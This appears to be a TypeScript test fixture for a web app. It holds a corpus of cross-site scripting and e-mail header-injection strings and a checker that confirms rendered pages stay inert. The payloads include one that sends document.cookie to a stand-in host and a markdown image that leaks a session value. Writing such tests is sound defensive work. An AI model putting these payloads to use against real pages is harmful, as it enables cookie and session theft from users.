/**
 * Hostile strings an agent might put in a title, payload or context. Pages and e-mails must show
 * them as text: no script runs, no element is created, no request leaves. Used by the page tests
 * and the browser tests.
 */
export const XSS_CORPUS: [name: string, value: string][] = [
  ['script tag', '<script>window.__xss=1;fetch("http://127.0.0.1:9/steal?c="+document.cookie)</script>'],
  ['img onerror', '<img src=x onerror="window.__xss=1">'],
  ['javascript: link', '<a href="javascript:window.__xss=1">click me</a>'],
  ['svg onload', '<svg/onload=window.__xss=1><circle r=5></circle></svg>'],
  ['markdown image exfiltration', '![logo](http://127.0.0.1:9/exfil?secret=SESSION) and [link](javascript:alert(1))'],
  ['attribute breakout', '" autofocus onfocus="window.__xss=1" x="'],
  ['closing textarea', '</textarea><script>window.__xss=1</script>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>'],
  ['header injection in subject', 'Hello\r\nBcc: victim@example.com\r\n\r\n<b>x</b>'],
];

/**
 * What is wrong with a rendered page that was given `evil` somewhere: markup that arrived unescaped,
 * a script other than our own static files, an active element, an event handler or a javascript:
 * link. An empty list means the page is inert. Attribute values are blanked first: quoted and
 * escaped, they cannot open a tag.
 */
export function inertnessProblems(page: string, evil: string): string[] {
  const html = page.replace(/="[^"]*"/g, '=""');
  const problems: string[] = [];
  // Markup must arrive escaped; plain text (markdown) arrives as is and is never rendered as markdown.
  if (/[<>"']/.test(evil) && page.includes(evil)) problems.push('the hostile string arrived unescaped');
  if (/<script(?![^>]*src="\/static\/[\w-]+\.js")/i.test(page)) problems.push('a script that is not ours');
  if (/<(img|svg|iframe|object|embed)\b/i.test(html)) problems.push('an active element');
  if (/<[a-z][^>]*\son\w+=/i.test(html)) problems.push('an event handler attribute');
  if (/href="javascript:/i.test(html)) problems.push('a javascript: link');
  return problems;
}
